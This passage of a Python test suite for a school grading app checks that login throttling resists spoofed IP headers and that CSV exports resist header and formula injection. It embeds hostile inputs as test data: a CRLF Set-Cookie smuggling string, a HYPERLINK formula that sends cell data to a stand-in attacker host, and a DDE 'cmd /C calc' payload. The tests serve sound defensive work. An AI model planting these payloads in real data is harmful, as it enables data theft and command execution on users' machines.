    response = client.post(
        reverse("login"),
        {"username": "tess@example.org", "password": PASSWORD},
        headers={"X-Forwarded-For": "192.0.2.99", "X-Real-IP": "192.0.2.99"},
    )
    assert response.status_code in (403, 429)
    assert "_auth_user_id" not in client.session


# --- what the school's own data can do to a download ------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Math\r\n7 Set-Cookie: x=1", 'attachment; filename="Math 7 Set-Cookie: x=1 mastery.csv"'),
        ('Math "7"', 'attachment; filename="Math \\"7\\" mastery.csv"'),
        (
            "Matemáticas 7",
            "attachment; filename*=utf-8''Matem%C3%A1ticas%207%20mastery.csv",
        ),
    ],
    ids=["newline", "quotes", "accents"],
)
def test_the_grid_csv_is_downloadable_whatever_the_sections_name(
    name: str, expected: str, world: World, client: Any
) -> None:
    """Found by the probe: a section named with a newline (the admin's form and a roster file
    both allow one) made the teacher's CSV download a 500 (BadHeaderError)."""
    from tests.mastery.conftest import build_maths

    build_maths(world)
    Section.objects.filter(pk=world.math.pk).update(name=name)
    client.force_login(world.teacher)
    response = client.get(reverse("section-grid-csv", kwargs={"pk": world.math.pk}))
    assert response.status_code == 200
    assert response["Content-Disposition"] == expected


def test_the_grid_csv_never_hands_a_spreadsheet_a_formula(world: World, client: Any) -> None:
    """Found by the probe: a student's name from the roster, a target's code or statement from
    a CASE package went into the CSV as they were, so "=HYPERLINK(...)" ran in the teacher's
    spreadsheet. Such cells now start with an apostrophe; the numbers are untouched."""
    import csv
    import io

    from mastery.models import Competency
    from profiles.models import User as Person
    from tests.mastery.conftest import build_maths

    maths = build_maths(world)
    Person.objects.filter(pk=world.student.pk).update(
        given_name='=HYPERLINK("https://evil.example/?"&B2', family_name='"Sam")'
    )
    Competency.objects.filter(pk=maths.t1.pk).update(
        code="", short_statement="", statement="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    client.force_login(world.teacher)
    response = client.get(reverse("section-grid-csv", kwargs={"pk": world.math.pk}))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], cells
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'@SUM") for c in cells)
